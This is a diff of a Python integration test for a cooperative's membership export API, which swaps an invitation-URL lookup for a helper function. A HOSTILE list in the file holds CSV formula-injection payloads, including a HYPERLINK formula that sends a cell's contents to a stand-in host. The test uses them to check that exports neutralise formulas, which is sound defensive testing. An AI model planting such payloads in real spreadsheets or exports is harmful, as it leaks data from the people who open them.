@@ -7,7 +7,7 @@ import io
 from decimal import Decimal
 
 from tests.integration.test_adhesion_api import YEAR, pay
-from tests.integration.test_departments import import_file, invitations, number_of, token_of
+from tests.integration.test_departments import import_file, invitations, link_of, number_of, token_of
 from tests.support import GUIDE
 
 HOSTILE = ['=HYPERLINK("http://exemple.invalid/?"&A1;"Coop")', "+1+1", "@SUM(1)", "-2+3"]
@@ -27,7 +27,7 @@ def test_adhesion_exports_neutralise_formulas_and_keep_numbers(client, app, staf
     imported = import_file(client, staff, out.getvalue().encode("utf-8"))
     assert imported.status_code in (200, 201), imported.json
     # the first one validated and insured: it is in the insurer's declaration too
-    url = next(e["data"]["invitation_url"] for e in invitations(app) if e["data"]["login"] == number_of(1))
+    url = next(link_of(e) for e in invitations(app) if e["data"]["login"] == number_of(1))
     client.post("/api/auth/password-reset/confirm", json={"token": token_of(url), "password": "ecole-mdp"})
     school = client.login(number_of(1), "ecole-mdp")
     path = f"/api/adhesion/adhesions/{number_of(1)}/{YEAR}"
